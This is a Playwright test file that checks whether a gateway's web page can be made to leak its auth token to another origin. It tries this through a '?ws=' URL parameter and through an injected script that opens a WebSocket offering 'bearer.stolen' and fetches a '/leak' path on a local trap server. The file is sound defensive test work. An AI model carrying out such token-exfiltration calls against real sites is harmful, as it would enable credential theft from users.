// The page never sends its token anywhere but the gateway that served it: a `?ws=` in its URL is
// ignored (checked with the page's CSP bypassed, so this is the page's own behaviour), and its CSP
// stops a script in the page from opening a connection to any other origin.
import * as http from 'node:http';
import type { Browser } from 'playwright-core';
import { sharedTokenAuth } from '../../gateway/auth';
import type { Gateway } from '../../gateway/server';
import { launchChromium } from '../helpers/browser';
import { useGatewayFixture } from '../helpers/gateway';
import { sleep } from '../helpers/wait';

const TOKEN = 'page-origin-shared-token';
const fixture = useGatewayFixture('order-placement-page-origin');
let browser: Browser;
let gateway: Gateway;
let trap: http.Server;
let trapPort: number;
/** Every request and upgrade that reached the trap, with the subprotocols it offered. */
const caught: string[] = [];

beforeAll(async () => {
  gateway = await fixture.start({ auth: sharedTokenAuth(TOKEN) });
  trap = http.createServer((req, res) => {
    caught.push(`request ${req.url}`);
    res.end();
  });
  trap.on('upgrade', (req, socket) => {
    caught.push(`upgrade ${String(req.headers['sec-websocket-protocol'])}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  trapPort = (trap.address() as { port: number }).port;
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => trap?.close(resolve));
});

describe('the page and other origins', () => {
  test('?ws=<elsewhere> is ignored: the page connects to its own gateway and offers the token nowhere else', async () => {
    const context = await browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    caught.length = 0;
    await page.goto(`http://127.0.0.1:${gateway.port}/?ws=ws://127.0.0.1:${trapPort}/#token=${TOKEN}`);
    await page.locator('#connection[data-state="open"]').waitFor({ timeout: 15_000 });
    await sleep(500);
    expect(caught).toEqual([]);
    await context.close();
  });

  test("the page's CSP stops a script in it from connecting to another origin", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${gateway.port}/#token=${TOKEN}`);
    await page.locator('#connection[data-state="open"]').waitFor({ timeout: 15_000 });
    caught.length = 0;
    await page.evaluate((url) => {
      try {
        new WebSocket(`ws://${url}/`, ['bearer.stolen']);
      } catch {
        // refused at once by the CSP
      }
      void fetch(`http://${url}/leak`).catch(() => undefined);
    }, `127.0.0.1:${trapPort}`);
    await sleep(1_000);
    expect(caught).toEqual([]);
    await context.close();
  });
});
